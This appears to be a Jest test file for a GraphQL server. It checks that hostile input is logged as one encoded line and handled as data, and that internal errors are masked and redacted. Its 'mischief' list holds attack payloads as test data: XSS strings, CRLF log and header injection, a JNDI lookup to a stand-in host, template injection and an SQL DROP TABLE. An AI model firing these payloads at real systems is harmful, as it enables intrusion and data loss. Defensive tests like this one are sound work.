import { expect, test } from '@jest/globals'
import { GraphQLError } from 'graphql'
import { buildSchema } from '../src/graphql/index.ts'
import { CodedError } from '../src/lib/errors.ts'
import { startTestApp } from './support/app.ts'
import { makeArticle, makeMember } from './support/factories.ts'
import { expectUnharmed, json, send } from './support/http.ts'

// The logs and the responses after hostile input and after internal errors.

/** The value that the resolver of `plans` throws next. */
let thrown: unknown
const schema = buildSchema()
const plans = schema.getQueryType()?.getFields().plans
if (plans) {
  plans.resolve = () => {
    // A library can throw any value.
    // oxlint-disable-next-line typescript/only-throw-error
    if (thrown !== undefined) throw thrown
    return []
  }
}
const app = await startTestApp({ schema })
const gated = await makeArticle(app.db, { visibility: 'PAID' })

interface Line {
  readonly level: number
  readonly msg: string
  readonly requestId?: string
  readonly path?: string
  readonly code?: string
  readonly err?: { readonly message: string; readonly cause?: { readonly message: string } }
  readonly req?: { readonly path: string }
}
/** Returns the log lines that a function causes. Each must be one line of JSON. */
async function linesOf(run: () => Promise<unknown>): Promise<Line[]> {
  const before = app.logs.length
  await run()
  return app.logs.slice(before).map((text) => {
    // eslint-disable-next-line no-control-regex
    expect(text).toMatch(/^[^\x00-\x1f\x7f]+\n$/)
    return JSON.parse(text) as Line
  })
}

const mischief = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'a\r\n{"level":60,"msg":"forged"}',
  'a\r\nset-cookie: x=1\r\n\r\n<html>',
  '\u001b[31mred\u001b[0m',
  'a\u2028b\u2029c',
  '${jndi:ldap://evil.test/x}',
  '{{constructor.constructor("return 1")()}}',
  "'; DROP TABLE article; --",
  '%s%n%d',
]

test.each(mischief)('G30: %j in variables, names and headers is one log line', async (text) => {
  const lines = await linesOf(async () => {
    const answer = await send(app, {
      headers: {
        ...json,
        'user-agent': encodeURIComponent(text),
        referer: encodeURIComponent(text),
        'x-request-id': 'forged',
      },
      body: {
        query: 'query Q($slug: String!) { article(slug: $slug) { title body { rest } } }',
        operationName: 'Q',
        variables: { slug: text, [text]: text },
        extensions: { [text]: text },
      },
    })
    expect(answer.status).toBe(200)
    expect(answer.headers['x-request-id']).not.toBe('forged')
    await expectUnharmed(app, answer)
  })
  const [request, ...others] = lines.filter(({ req }) => req?.path === '/graphql')
  expect(others).toEqual([])
  expect(request).toMatchObject({ msg: 'request', req: { method: 'POST', path: '/graphql' }, res: { status: 200 } })
  expect(lines.map((line) => JSON.stringify(line)).join('')).not.toMatch(/alert|forged|jndi|DROP|constructor|evil/)
})

test.each(mischief)('G30: %j as the operation is data, never a page', async (text) => {
  const lines = await linesOf(async () => {
    for (const body of [
      { query: '{ plans { id } }', operationName: text },
      { query: text },
      { query: `{ article(slug: ${JSON.stringify(text)}) { ${text} } }` },
      { query: 'query ($n: Int) { articles(first: $n) { nodes { id } } }', variables: { n: text } },
    ]) {
      const answer = await send(app, { body })
      expect(answer.status).toBe(400)
      expect(answer.headers).toMatchObject({
        'content-type': 'application/json; charset=utf-8',
        'x-content-type-options': 'nosniff',
      })
      expect(answer.headers).not.toHaveProperty('set-cookie')
      expect(() => JSON.parse(answer.text) as unknown).not.toThrow()
    }
  })
  expect(lines.filter(({ req }) => req?.path === '/graphql')).toHaveLength(4)
  expect(lines.map((line) => JSON.stringify(line)).join('')).not.toMatch(/alert|forged|jndi|DROP|constructor|evil/)
})

test.each(mischief)('G30: %j in a URL is one log line, encoded', async (text) => {
  const lines = await linesOf(async () => {
    const answer = await send(app, {
      method: 'GET',
      path: `/${encodeURIComponent(text)}?x=${encodeURIComponent(text)}`,
      headers: {},
    })
    expect(answer.status).toBe(404)
    expect(answer.headers).not.toHaveProperty('set-cookie')
    expect(answer.text).not.toContain('alert')
  })
  expect(lines).toHaveLength(1)
  expect(lines[0]?.req?.path.slice(1)).toBe(encodeURIComponent(text))
})

test.each(mischief)('G30: %j in stored names is data', async (name) => {
  const { id, subject } = await makeMember(app.db, { issuer: app.issuer.url })
  await app.db.member.update({ where: { id }, data: { name, profileFetchedAt: new Date() } })
  await app.db.article.update({ where: { id: gated.id }, data: { title: name } })
  const lines = await linesOf(async () => {
    const answer = await app.ask(`{ viewer { name } article(slug: "${gated.slug}") { title } }`, {
      token: app.issuer.sign({ sub: subject }),
    })
    expect(answer.data).toEqual({ viewer: { name }, article: { title: name } })
    expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8')
  })
  expect(lines.map((line) => JSON.stringify(line)).join('')).not.toMatch(/alert|forged|jndi|DROP|constructor|evil/)
})

const jwt = `${'eyJhbGciOiJSUzI1NiJ9'}.${'eyJzdWIiOiJhdXRoMHx4In0'}.${'c2lnbmF0dXJl'}`
const inside = `SELECT * FROM member WHERE email = 'jo@example.org' -- ${jwt} at /srv/app/server/src/x.ts:1:2`
const masked = 'Something went wrong on our side.'

test.each<[string, unknown]>([
  ['an error', new Error(inside)],
  ['a text', inside],
  ['an object', { message: inside, extensions: { code: 'NOT_FOUND' } }],
  ['null', null],
  [
    'an error with one of the API’s codes',
    Object.assign(new Error(inside), { code: 'NOT_FOUND', extensions: { code: 'NOT_FOUND' } }),
  ],
  [
    'a GraphQL error that is not ours',
    new GraphQLError(inside, { extensions: { code: 'BAD_USER_INPUT', secret: inside } }),
  ],
  ['an error with a cause', new Error('outer', { cause: new Error(inside, { cause: new Error(inside) }) })],
  ['an error that is its own cause', selfCaused()],
  ['several errors', new AggregateError([new Error(inside)], inside)],
])('masks %s under an id that the log has too', async (_title, error) => {
  thrown = error
  let id: string | null = null
  const lines = await linesOf(async () => {
    const answer = await app.ask('{ __typename plans { id } }')
    id = answer.headers.get('x-request-id')
    expect(answer.errors).toEqual([
      {
        message: masked,
        locations: expect.anything(),
        path: ['plans'],
        extensions: { code: 'INTERNAL_SERVER_ERROR', requestId: id },
      },
    ])
    await expectUnharmed(app, answer)
  }).finally(() => (thrown = undefined))
  const logged = lines.filter(({ msg }) => msg === 'an error was masked')
  expect(logged).toMatchObject([{ level: 50, requestId: id, path: 'plans' }])
  expect(JSON.stringify(logged)).not.toMatch(/jo@example|eyJ/)
})

function selfCaused(): Error {
  const error = new Error(inside)
  error.cause = error
  return error
}

test('sends a coded error unchanged and logs its cause', async () => {
  thrown = new CodedError('CONFLICT', 'Somebody was faster.', { cause: new Error(inside) })
  const lines = await linesOf(async () => {
    const answer = await app.ask('{ plans { id } }')
    expect(answer.errors).toMatchObject([{ message: 'Somebody was faster.', extensions: { code: 'CONFLICT' } }])
    await expectUnharmed(app, answer)
  }).finally(() => (thrown = undefined))
  expect(lines.find(({ msg }) => msg === 'an error was masked')?.err?.message).toMatch(/^SELECT .*\[email\].*\[token\]/)
})

test('an unavailable database is 503 with Retry-After', async () => {
  thrown = Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:5432'), { code: 'ECONNREFUSED' })
  try {
    const answer = await app.ask(`{ plans { id } }`)
    expect(answer.status).toBe(503)
    expect(answer.headers.get('retry-after')).toBe('5')
    expect(answer.errors?.[0]?.extensions).toEqual({
      code: 'SERVICE_UNAVAILABLE',
      requestId: answer.headers.get('x-request-id'),
    })
    await expectUnharmed(app, answer)
    const beside = await app.ask(`{ plans { id } article(slug: "${gated.slug}") { slug } }`)
    expect(beside.data).toBeNull()
    await expectUnharmed(app, beside)
  } finally {
    thrown = undefined
  }
})
